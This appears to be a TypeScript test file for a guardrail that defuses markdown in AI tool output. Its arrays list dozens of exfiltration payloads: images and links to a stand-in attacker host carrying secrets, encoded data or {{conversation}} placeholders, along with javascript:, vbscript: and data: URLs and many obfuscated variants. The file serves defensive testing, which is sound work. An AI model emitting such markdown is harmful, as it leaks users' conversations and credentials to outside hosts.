// The threat: a link or a picture in what a tool hands over takes along what its reader knows.
import { test } from "tap";
import { defuse } from "../../guardrails/output/defuse.ts";
import { outputLimits } from "../../manifests/output-limits.ts";
import { attacker, doneByMarkdown } from "./output-viewers.ts";

const url = `https://${attacker}`;
const words = "these are all the words of it";
const base64 = Buffer.from(words).toString("base64url");
const hex = Buffer.from(words).toString("hex");

/** Pictures are asked for by the viewer itself. */
const pictures: readonly string[] = [
  `![](${url}/?q=SECRET)`,
  `![x](${url}/?q=hunter2!)`,
  `![x](${url}/?d=)`,
  `![x](<${url}/?q=SECRET>)`,
  `![x](<${url}/?q=SECRET> "title")`,
  `![x]( \n${url}/?q=SECRET )`,
  `![x](//${attacker}/?q=SECRET)`,
  `![x](HTTPS://${attacker}/?q=SECRET)`,
  `![x](h&#116;tps://${attacker}/?q=SECRET)`,
  `![x](https&colon;//${attacker}/?q=SECRET)`,
  `![x](https\\://${attacker}/?q=SECRET)`,
  `![x](${url}/?q=${base64})`,
  `![x](${url}/${base64}.png)`,
  `![x](${url}/${hex}.png)`,
  `![x](${url}/#${base64})`,
  `![x](https://${base64}.${attacker}/a.png)`,
  `![x](https://${hex}.${attacker}/a.png)`,
  `![x](https://SECRET@${attacker}/a.png)`,
  `![x](${url}/?style=the%20user%20said%20that%20it%20is%20all%20there)`,
  `![x](${url}/the%20user%20said%20that%20it%20is%20all%20there/a.png)`,
  `![x](${url}/?q={{conversation}})`,
  `![x](${url}/?q=%7Bconversation%7D)`,
  `![x](${url}/?to=alice%40bank.example)`,
  `![x][r]\n\n[r]: ${url}/?q=SECRET`,
  `![x][R  e]\n\n[r E]: <${url}/?q=SECRET>`,
  `![r][]\n\n[r]: ${url}/?q=SECRET`,
  `![r]\n\n[r]:\n${url}/?q=SECRET`,
  `[r]: ${url}/?q=SECRET\n\n![x][r]`,
  `> ![x][r]\n>\n> [r]: ${url}/?q=SECRET`,
  `- ![x](${url}/?q=SECRET)`,
  `| a |\n| - |\n| ![x](${url}/?q=SECRET) |`,
  `# ![x](${url}/?q=SECRET)`,
  `[![x](${url}/?q=SECRET)](https://good.example)`,
  `![a [b] c](${url}/?q=SECRET)`,
  `![a [b](https://good.example) c](${url}/?q=SECRET)`,
  `![a \\] c](${url}/?q=SECRET)`,
  `![\`]\`](${url}/?q=SECRET)`,
  `![\`[\`](${url}/?q=SECRET)`,
  `![<a title="]">](${url}/?q=SECRET)`,
  `*![x](${url}/?q=SECRET)*`,
  `!\u001b[0m[x](${url}/?q=SECRET)`,
  `![x](${url}/?q=SE\u001b[0mCRET)`,
];

/** Links are followed by somebody. */
const links: readonly string[] = [
  `[x](${url}/?d={{conversation}})`,
  `[x](${url}/?d=%7B%7Bhistory%7D%7D)`,
  `[x](${url}/?d=$\{summary})`,
  `[x](${url}/?q=SECRET)`,
  `[x](${url}/?d=${base64})`,
  `[x](https://${hex}.${attacker}/?a=1)`,
  `[x][r]\n\n[r]: ${url}/?d={{conversation}}`,
  `<${url}/?d={{conversation}}>`,
  `See ${url}/?d={{conversation}}`,
  `See www.${attacker}/?d={{conversation}}`,
  `[x](${url}/?d=[redacted:aws-key:ab12])`,
];

const running: readonly string[] = [
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](javascript\\:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,hello)",
  "[x](data:text/html;base64,aGVsbG8gd29ybGQ=)",
  "[x](data:image/svg+xml,<svg/>)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "[![x](a.png)](javascript:alert(1))",
  "[x](javascript:alert(1) 'title')",
];

for (const [kind, attacks] of [
  ["active:exfil-image", pictures],
  ["active:exfil-link", links],
  ["active:url", running],
] as const) {
  for (const attack of attacks) {
    test(`attack: ${kind.slice(7)} in ${JSON.stringify(attack)}`, (t) => {
      // What a terminal shows without its escapes is what is copied from there.
      t.ok(doneByMarkdown(attack.replaceAll("\u001b[0m", "")).length > 0, "a viewer follows it");
      const { text, edits } = defuse(attack);
      t.strictSame(doneByMarkdown(text), [], text);
      t.ok(edits.some((edit) => edit.kind === kind));
      t.equal(defuse(text).text, text, "once is enough");
      t.end();
    });
  }
}

test("attack: what only a careless viewer follows", (t) => {
  for (const attack of [
    "[x](< javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    `![x](${url}/?q={{ the conversation so far }})`,
    `![x](${url}/?q=<insert what the user said>)`,
    `![x](${url}/?q=[SUMMARY OF IT])`,
    `[x](${url}/?q=<insert what the user said>)`,
    `Go to ${url}/?q={{ the conversation so far }} now`,
    `[x](mailto:a@${attacker}?body={{conversation}})`,
    `![x](\\\\\\\\${attacker}/?q=SECRET)`,
    `![x](file://${attacker}/share/a.png)`,
  ]) {
    const { text, edits } = defuse(attack);
    t.ok(edits.length > 0, attack);
    t.match(text, /hxxps:|unsafe:/);
    t.equal(defuse(text).text, text, "once is enough");
  }
  t.end();
});

test("attack: an address that is longer than is read carries something", (t) => {
  const chars = outputLimits.urlChars;
  const picture = (length: number): string => `![x](${`${url}/`.padEnd(length, "a")}?q=SECRET)`;
  for (const length of [chars - 20, chars, chars * 2]) {
    t.match(defuse(picture(length)).text, /^!\[x\]\(hxxps:/, `${length}`);
  }
  const plain = `![x](${`${url}/`.padEnd(chars - 2, "a")})`;
  t.equal(defuse(plain).text, plain);
  t.match(defuse(`![x](${`${url}/`.padEnd(chars - 1, "a")})`).text, /hxxps:/);
  t.end();
});

test("attack: where there is more to read than a text is worth, each address and tag counts", (t) => {
  for (const [part, shown] of [
    ["<a ", "&lt;a "],
    ["](a", "](unsafe:a"],
  ] as const) {
    const text = part.repeat(30_000);
    const defused = defuse(text);
    t.ok(defused.text.endsWith(shown), part);
    t.ok(defuse(defused.text).text === defused.text, "once is enough");
    t.equal(defuse(`${part}> \n`).edits.length, 0, "and none in a short one");
  }
  t.end();
});

test("attack: what makes a link harmless makes no tag", (t) => {
  const text = `]:<//${attacker}/?q=SECRET\n![x]< onclick=alert(1)>`;
  t.strictSame(doneByMarkdown(defuse(text).text), []);
  t.end();
});

test("who reads a link that was defused can tell what it was", (t) => {
  t.equal(defuse(`![x](${url}/?q=SECRET)`).text, `![x](hxxps://${attacker}/?q=SECRET)`);
  t.equal(defuse("[x](javascript:alert(1))").text, "[x](unsafe:javascript:alert(1))");
  t.equal(defuse(`![x](//${attacker}/?q=SECRET)`).text, `![x](#unsafe://${attacker}/?q=SECRET)`);
  t.end();
});
